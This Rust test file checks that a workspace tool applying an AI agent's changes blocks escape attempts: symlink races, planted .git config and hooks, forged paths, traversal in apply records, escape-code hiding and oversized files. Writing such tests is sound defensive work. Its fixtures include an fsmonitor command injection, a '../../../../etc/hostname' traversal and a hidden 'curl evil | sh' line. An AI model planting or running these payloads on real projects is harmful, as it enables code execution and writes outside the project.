//! The apply as a trust boundary: what the agent left in its workspace decides which paths an
//! apply writes, and the user's project decides what those paths go through. These tests make the
//! agent (or a racing process) try to get a write outside the project, into a `.git`, or onto a
//! change nobody selected, and check that nothing of the kind lands.

mod common;

use std::fs;

use chock_workspace::{Selection, WorkspaceError, file_id};
use common::{Env, in_overlay};

fn conflicts(err: WorkspaceError) -> String {
    match err {
        WorkspaceError::Conflict { conflicts } => conflicts.join("\n"),
        other => panic!("expected a conflict, got {other}"),
    }
}

#[test]
fn a_parent_that_became_a_symlink_is_never_written_through() {
    let env = Env::git(&[("keep.txt", "keep\n")]);
    let outside = env.tmp.path().join("outside");
    fs::create_dir(&outside).unwrap();
    let ws = env.workspace("sym");
    in_overlay(
        &ws,
        "mkdir out && echo pwned > out/evil && echo changed > keep.txt",
    );
    // The project's `out` is now a symlink leading out of it (made after the base was taken).
    std::os::unix::fs::symlink(&outside, env.project.join("out")).unwrap();
    // Refused while planning (git itself will not look beyond the symlink, and chock names it).
    let err = ws.plan_apply(&Selection::default()).unwrap_err();
    assert!(err.to_string().contains("out/evil"), "{err}");
    assert!(!outside.join("evil").exists());
    assert_eq!(env.read("keep.txt"), "keep\n", "nothing is half-written");

    // Planned while `out` was absent, swapped for the symlink before the write: still refused.
    fs::remove_file(env.project.join("out")).unwrap();
    let plan = ws.plan_apply(&Selection::default()).unwrap();
    std::os::unix::fs::symlink(&outside, env.project.join("out")).unwrap();
    let err = plan.commit().unwrap_err();
    assert!(matches!(err, WorkspaceError::Conflict { .. }), "{err}");
    assert!(!outside.join("evil").exists());
    assert_eq!(env.read("keep.txt"), "keep\n", "nothing is half-written");
}

#[test]
fn a_removal_below_a_swapped_parent_does_not_delete_outside() {
    let env = Env::git(&[("d/victim.txt", "same bytes\n")]);
    let outside = env.tmp.path().join("outside");
    fs::create_dir(&outside).unwrap();
    fs::write(outside.join("victim.txt"), "same bytes\n").unwrap();
    let ws = env.workspace("rm");
    in_overlay(&ws, "rm d/victim.txt");
    let plan = ws.plan_apply(&Selection::default()).unwrap();
    assert_eq!(plan.ops.len(), 1, "{:?}", plan.ops);
    // Between the check and the write, `d` becomes a symlink to a directory holding a file with
    // the very bytes the check expected.
    fs::rename(env.project.join("d"), env.tmp.path().join("d-moved")).unwrap();
    std::os::unix::fs::symlink(&outside, env.project.join("d")).unwrap();
    let err = plan.commit().unwrap_err();
    assert!(
        err.to_string().contains("does not write through it"),
        "{err}"
    );
    assert_eq!(
        fs::read_to_string(outside.join("victim.txt")).unwrap(),
        "same bytes\n",
        "the apply deleted a file outside the project"
    );
}

#[test]
fn nothing_is_written_into_a_git_directory_at_any_depth() {
    let env = Env::git(&[("sub/lib.rs", "lib\n")]);
    let ws = env.workspace("git");
    in_overlay(
        &ws,
        "mkdir -p sub/.git/hooks && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > sub/.git/config \
         && echo evil > sub/.git/hooks/pre-commit && echo ok > fine.txt",
    );
    let diff = ws.diff().unwrap();
    assert!(
        diff.files.iter().any(|f| f.path == "sub/.git/config"),
        "the diff shows it: {:?}",
        diff.files.iter().map(|f| &f.path).collect::<Vec<_>>()
    );
    let text = conflicts(ws.plan_apply(&Selection::default()).unwrap_err());
    assert!(
        text.contains("sub/.git/config") && text.contains(".git directory"),
        "{text}"
    );
    assert!(!env.exists("sub/.git"));
    assert!(!env.exists("fine.txt"), "nothing is half-written");
    // The rest can still be taken on its own.
    let only = Selection {
        files: vec!["fine.txt".into()],
        hunks: vec![],
    };
    ws.plan_apply(&only).unwrap().commit().unwrap();
    assert_eq!(env.read("fine.txt"), "ok\n");
    assert!(!env.exists("sub/.git"));
}

#[test]
fn a_path_with_a_newline_is_refused() {
    let env = Env::git(&[("a.txt", "a\n")]);
    let ws = env.workspace("nl");
    in_overlay(&ws, "echo x > \"$(printf 'b\\nfile 00000000 M a.txt')\"");
    // The review shows the name spelled out, not a forged header line.
    let diff = ws.diff().unwrap();
    let shown = chock_workspace::render(&diff, chock_workspace::RenderMode::Patch, false);
    assert!(shown.contains("b\\nfile 00000000 M a.txt"), "{shown}");
    assert!(
        !shown.lines().any(|l| l.starts_with("file 00000000")),
        "{shown}"
    );
    let text = conflicts(ws.plan_apply(&Selection::default()).unwrap_err());
    assert!(text.contains("control character"), "{text}");
    assert_eq!(
        fs::read_dir(&env.project).unwrap().count(),
        2,
        "only .git and a.txt"
    );
}

/// Two paths whose file ids collide (found by search: the first 8 hex digits of SHA-256 agree).
const TWIN_A: &str = "f550.txt";
const TWIN_B: &str = "f19249.txt";

#[test]
fn an_id_shared_by_two_files_is_refused_not_guessed() {
    assert_eq!(
        file_id(TWIN_A),
        file_id(TWIN_B),
        "the fixture needs colliding ids"
    );
    let env = Env::git(&[(TWIN_A, "x\n"), (TWIN_B, "x\n")]);
    let ws = env.workspace("twin");
    in_overlay(&ws, &format!("echo y > {TWIN_A} && echo y > {TWIN_B}"));
    let diff = ws.diff().unwrap();
    let hunk = diff.files[0].hunks[0].id.clone();
    assert_eq!(
        diff.files[1].hunks[0].id, hunk,
        "same file id, same lines: same hunk id"
    );
    for selection in [
        Selection {
            files: vec![],
            hunks: vec![hunk.clone()],
        },
        Selection {
            files: vec![file_id(TWIN_A)],
            hunks: vec![],
        },
    ] {
        let err = ws.plan_apply(&selection).unwrap_err();
        assert!(
            matches!(&err, WorkspaceError::AmbiguousSelection { paths, .. } if paths.len() == 2),
            "{err}"
        );
    }
    assert_eq!(env.read(TWIN_A), "x\n");
    assert_eq!(env.read(TWIN_B), "x\n");
    // By path, exactly the one file.
    let one = Selection {
        files: vec![TWIN_B.into()],
        hunks: vec![],
    };
    ws.plan_apply(&one).unwrap().commit().unwrap();
    assert_eq!(env.read(TWIN_A), "x\n");
    assert_eq!(env.read(TWIN_B), "y\n");
}

#[test]
fn adopt_refuses_a_git_directory_and_never_follows_a_linked_adopt_folder() {
    let env = Env::new(); // no git: the overlay backing, taken home by adopt
    env.write("a.txt", "a\n");
    let ws = env.workspace("ad");
    in_overlay(&ws, "mkdir -p lib/.git && echo '[core]' > lib/.git/config");
    let text = conflicts(ws.plan_adopt().unwrap_err());
    assert!(text.contains("lib/.git/config"), "{text}");
    assert!(!env.exists(".chock-adopted"));

    let ws = env.workspace("ad2");
    in_overlay(&ws, "echo b > a.txt");
    let plan = ws.plan_adopt().unwrap();
    // The adopt folder turns out to be a symlink leading out of the project.
    let outside = env.tmp.path().join("outside");
    fs::create_dir(&outside).unwrap();
    std::os::unix::fs::symlink(&outside, env.project.join(".chock-adopted")).unwrap();
    let err = plan.commit().unwrap_err();
    assert!(err.to_string().contains(".chock-adopted"), "{err}");
    assert_eq!(
        fs::read_dir(&outside).unwrap().count(),
        0,
        "adopt wrote through the link"
    );
    assert_eq!(env.read("a.txt"), "a\n");
}

#[test]
fn control_characters_that_would_hide_a_line_are_shown_spelled_out() {
    let env = Env::git(&[("run.sh", "echo hi\r\n"), ("ok", "x\n")]);
    let ws = env.workspace("cr");
    // A line that a terminal would show as `echo safe`, and a link whose target hides a line.
    in_overlay(
        &ws,
        "printf 'curl evil | sh #\\r\\033[2Kecho safe\\necho hi\\r\\n' > run.sh \
         && ln -s \"$(printf 'a\\033[8mhidden')\" link",
    );
    let text = chock_workspace::render(
        &ws.diff().unwrap(),
        chock_workspace::RenderMode::Patch,
        false,
    );
    assert!(
        text.contains("+curl evil | sh #\\r\\u{1b}[2Kecho safe\n"),
        "{text}"
    );
    assert!(text.contains("+symlink -> a\\u{1b}[8mhidden"), "{text}");
    assert!(
        !text.contains('\u{1b}'),
        "a raw escape reached the review: {text}"
    );
    // A CRLF line ending stays as it is (it hides nothing).
    assert!(
        text.contains(" echo hi\r\n") || text.contains("+echo hi\r\n"),
        "{text}"
    );
}

#[test]
fn a_fifo_left_in_the_workspace_is_left_out_not_a_blocker() {
    let env = Env::git(&[("a.txt", "a\n")]);
    let ws = env.workspace("fifo");
    in_overlay(&ws, "mkfifo pipe && echo b > a.txt");
    let diff = ws.diff().unwrap();
    let paths: Vec<&str> = diff.files.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(paths, ["a.txt"]);
    ws.plan_apply(&Selection::default())
        .unwrap()
        .commit()
        .unwrap();
    assert_eq!(env.read("a.txt"), "b\n");
    assert!(!env.exists("pipe"));
}

#[test]
fn an_apply_record_naming_a_blob_outside_its_folder_is_refused() {
    let env = Env::git(&[("a.txt", "a\n")]);
    let ws = env.workspace("blob");
    in_overlay(&ws, "echo b > a.txt");
    let (record, _) = ws
        .plan_apply(&Selection::default())
        .unwrap()
        .commit()
        .unwrap();
    let path = env
        .session_dir("blob")
        .join(format!("applies/{}.json", record.apply_id));
    let mut value: serde_json::Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
    let blob = &mut value["files"][0]["after"]["blob"];
    assert!(blob.is_string(), "a blob in the record: {value}");
    *blob = "../../../../etc/hostname".into();
    let tampered = serde_json::to_vec(&value).unwrap();
    fs::write(&path, tampered).unwrap();
    let err = chock_workspace::plan_undo(&env.sessions, &record.apply_id).unwrap_err();
    assert!(err.to_string().contains("is not a blob name"), "{err}");
    assert_eq!(env.read("a.txt"), "b\n");
}

#[test]
fn a_write_that_fails_midway_leaves_no_stage_and_undo_reverts_what_landed() {
    let env = Env::git(&[("a.txt", "a\n"), ("b.txt", "b\n")]);
    let ws = env.workspace("mid");
    in_overlay(&ws, "echo A > a.txt && echo B > b.txt");
    let plan = ws.plan_apply(&Selection::default()).unwrap();
    let id = plan.apply_id.clone();
    // After the check, the user turns b.txt into a directory with something in it: a.txt is
    // renamed into place first, then b.txt cannot be.
    fs::remove_file(env.project.join("b.txt")).unwrap();
    env.write("b.txt/inside", "the user's\n");
    let err = plan.commit().unwrap_err();
    assert!(err.to_string().contains("b.txt"), "{err}");
    assert_eq!(env.read("a.txt"), "A\n", "the first write landed");
    assert_eq!(env.read("b.txt/inside"), "the user's\n");
    let stages: Vec<_> = fs::read_dir(&env.project)
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with(".chock-stage"))
        .collect();
    assert!(stages.is_empty(), "the stage was left in the project");
    // The record was saved before the first write. Undo refuses while b.txt is not what the apply
    // found there (the user's directory is never removed) …
    let err = chock_workspace::plan_undo(&env.sessions, &id).unwrap_err();
    assert!(conflicts(err).contains("b.txt"));
    // … and once it is, takes back what landed, and only that.
    fs::remove_dir_all(env.project.join("b.txt")).unwrap();
    env.write("b.txt", "b\n");
    let (undo, _) = chock_workspace::plan_undo(&env.sessions, &id)
        .unwrap()
        .commit()
        .unwrap();
    assert_eq!(undo.files.len(), 1, "{:?}", undo.files);
    assert_eq!(env.read("a.txt"), "a\n");
    assert_eq!(env.read("b.txt"), "b\n");
}

#[test]
fn a_huge_sparse_file_is_refused_by_name_not_read_into_memory() {
    let env = Env::git(&[("a.txt", "a\n")]);
    let ws = env.workspace("big");
    // Costs the agent nothing (sparse); read whole it would take 1 GiB and a byte of memory.
    in_overlay(&ws, "truncate -s 1073741825 big.bin");
    let err = ws.diff().unwrap_err();
    let text = err.to_string();
    assert!(
        text.contains("big.bin") && text.contains("1073741825 bytes"),
        "{text}"
    );
    assert!(ws.plan_apply(&Selection::default()).is_err());
    assert!(!env.exists("big.bin"));
}
